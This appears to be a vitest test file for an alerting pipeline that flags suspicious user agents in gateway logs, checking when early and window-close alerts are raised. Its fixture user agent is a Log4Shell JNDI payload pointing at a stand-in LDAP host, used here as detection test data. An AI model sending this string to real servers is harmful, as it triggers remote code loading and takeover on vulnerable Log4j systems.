import { describe, expect, it } from "vitest";
import type { Alert } from "../../shared/alerts/alert.js";
import { loadSettings } from "../../shared/config/settings.js";
import { evaluateClosedWindows } from "../../shared/pipeline/evaluateWindows.js";
import { ingestEventHubBatch } from "../../shared/pipeline/ingestEventHubBatch.js";
import { openPipeline, type Pipeline } from "../../shared/pipeline/openPipeline.js";
import { raiseEarlyAlerts } from "../../shared/pipeline/raiseEarlyAlerts.js";
import { windowIndexOf } from "../../shared/windows/window.js";
import { freshStorage } from "../support/azuriteTables.js";
import { envelope, gatewayLogRecord } from "../support/gatewayLogs.js";

const LOG4SHELL = "${jndi:ldap://198.51.100.9:1389/a}";
const at = (clock: string) => Date.parse(`2024-05-02T${clock}Z`);

async function openRecordingPipeline(sent: Alert[]): Promise<Pipeline> {
  const sink = {
    name: "recording",
    send: async (alerts: readonly Alert[]) => {
      sent.push(...alerts);
      return { sent: alerts.length, failed: [] };
    },
  };
  return openPipeline(loadSettings({}), freshStorage(), sink, "test");
}

async function deliver(pipeline: Pipeline, sequenceNumber: number, time: string) {
  const record = gatewayLogRecord({
    time: `2024-05-02T${time}Z`,
    ip: "198.51.100.9",
    userAgent: LOG4SHELL,
  });
  await ingestEventHubBatch(
    "0",
    [{ sequenceNumber, body: envelope([record]) }],
    pipeline.parseOptions(at("12:00:00")),
    pipeline.inspect,
    pipeline.ingest,
  );
}

const clock = (time: string) => ({ eventTimeMs: at(time), wallTimeMs: Date.now() });

describe("early indicator alerts", () => {
  it("raises an attack user agent at the next timer tick, not at the end of the window", async () => {
    const sent: Alert[] = [];
    const pipeline = await openRecordingPipeline(sent);
    await deliver(pipeline, 0, "10:02:00");

    const early = await raiseEarlyAlerts(clock("10:05:00"), pipeline.evaluation);

    expect(early.alerts.map((alert) => alert.alertType)).toEqual([
      "API_AccessFromSuspiciousUserAgent",
    ]);
    expect(early.alerts[0]!.raisedAtMs).toBe(at("10:05:00"));
    expect(early.alerts[0]!.observedValue).toBe(1);
  });

  it("raises the alert once per window and again at the close only when the count grew", async () => {
    const sent: Alert[] = [];
    const pipeline = await openRecordingPipeline(sent);
    await deliver(pipeline, 0, "10:02:00");
    await raiseEarlyAlerts(clock("10:05:00"), pipeline.evaluation);
    await deliver(pipeline, 1, "10:12:00");

    const second = await raiseEarlyAlerts(clock("10:15:00"), pipeline.evaluation);
    await evaluateClosedWindows(clock("10:25:00"), pipeline.evaluation);

    expect(second.alerts).toEqual([]);
    expect(
      sent.map((alert) => [alert.observedValue, new Date(alert.raisedAtMs).toISOString()]),
    ).toEqual([
      [1, "2024-05-02T10:05:00.000Z"],
      [2, "2024-05-02T10:20:00.000Z"],
    ]);
    expect(new Set(sent.map((alert) => alert.alertId)).size).toBe(1);
  });

  it("does not repeat an early alert at the close when nothing was added to it", async () => {
    const sent: Alert[] = [];
    const pipeline = await openRecordingPipeline(sent);
    await deliver(pipeline, 0, "10:02:00");
    await raiseEarlyAlerts(clock("10:05:00"), pipeline.evaluation);

    await evaluateClosedWindows(clock("10:25:00"), pipeline.evaluation);

    expect(sent).toHaveLength(1);
  });

  it("lets go of the window it merged for the fast pass once the window is evaluated", async () => {
    const pipeline = await openRecordingPipeline([]);
    const windowIndex = windowIndexOf(at("10:02:00"));
    await deliver(pipeline, 0, "10:02:00");
    await raiseEarlyAlerts(clock("10:05:00"), pipeline.evaluation);
    const mergedEarly = await pipeline.evaluation.partials.readWindow(windowIndex);

    await evaluateClosedWindows(clock("10:25:00"), pipeline.evaluation);
    const readAgain = await pipeline.evaluation.partials.readWindow(windowIndex);

    expect(readAgain.aggregate).not.toBe(mergedEarly.aggregate);
    expect(readAgain.aggregate.records).toBe(1);
  });
});
